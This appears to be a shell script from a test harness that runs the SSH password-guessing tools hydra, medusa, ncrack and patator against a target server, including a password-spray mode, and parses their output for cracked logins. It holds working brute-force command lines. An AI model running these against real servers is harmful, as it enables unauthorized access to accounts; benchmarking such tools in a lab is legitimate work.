# Guess with the tool's own way to go through the lists: password by password for each user, or
# user by user for each password (spray).
phase guess
user=$(head -n 1 /root/users)
case $TASK in
spray)
	while read -r password; do
		while read -r name; do
			echo "$name $password"
		done </root/users
	done </root/passwords >/root/pairs
	;;
esac
stop() { [ "$SUCCESS" = stop ]; }

hydra_() {
	set -- -I -V -s "$PORT" -t "$PARALLEL" -P /root/passwords
	case $TASK in
	one-user) set -- "$@" -l "$user" ;;
	many-users) set -- "$@" -L /root/users ;;
	spray) set -- "$@" -u -L /root/users ;;
	esac
	! stop || set -- "$@" -f
	hydra {{if not .network.ipv4}}-6 {{end}}"$@" "$SERVER_ADDRESS" ssh
}

medusa_() {
	set -- -h "$SERVER_ADDRESS" -n "$PORT" -t "$PARALLEL" -M ssh
	case $TASK in
	one-user) set -- "$@" -u "$user" -P /root/passwords ;;
	many-users) set -- "$@" -U /root/users -P /root/passwords ;;
	spray)
		sed 's/^\(.*\) \(.*\)$/:\1:\2/' /root/pairs >/root/combined
		set -- "$@" -C /root/combined
		;;
	esac
	! stop || set -- "$@" -f
	medusa "$@"
}

ncrack_() {
	set -- -v -P /root/passwords -g "CL=$PARALLEL"
	case $TASK in
	one-user) set -- "$@" --user "$user" ;;
	many-users) set -- "$@" -U /root/users --passwords-first ;;
	spray) set -- "$@" -U /root/users ;;
	esac
	! stop || set -- "$@" -f
	ncrack "$@" "ssh://$SERVER_ADDRESS:$PORT"
}

patator_() {
	set -- host="$SERVER_ADDRESS" port="$PORT" -t "$PARALLEL" -x ignore:mesg='Authentication failed.'
	case $TASK in
	one-user) set -- "$@" user="$user" password=FILE0 0=/root/passwords ;;
	many-users) set -- "$@" user=FILE0 password=FILE1 0=/root/users 1=/root/passwords ;;
	spray)
		tr ' ' : </root/pairs >/root/combined
		set -- "$@" user=COMBO00 password=COMBO01 0=/root/combined
		;;
	esac
	! stop || set -- "$@" -x quit:code=0
	patator ssh_login "$@"
}

status=0
"${IMPLEMENTATION}_" >/root/said 2>&1 || status=$?
cat /root/said
echo "status $status"
found=$(case $IMPLEMENTATION in
hydra) sed -n 's/^\[[0-9]*\]\[ssh\] host: .* login: \(.*\)   password: \(.*\)$/\1 \2/p' /root/said ;;
medusa) sed -n 's/^ACCOUNT FOUND: \[ssh\] .* User: \(.*\) Password: \(.*\) \[SUCCESS\]$/\1 \2/p' /root/said ;;
ncrack) sed -n "s/^[0-9.]* [0-9]*\/tcp ssh: '\(.*\)' '\(.*\)'\$/\1 \2/p" /root/said ;;
patator)
	# the second column is what was tried: the password, or USER:PASSWORD
	sed -n 's/^.* INFO - 0 [^|]*| \([^ |]*\) *|.*$/\1/p' /root/said |
		if [ "$TASK" = one-user ]; then sed "s/^/$user /"; else tr ':' ' '; fi
	;;
esac)
outcome found="${found:-none}"
signal guessed
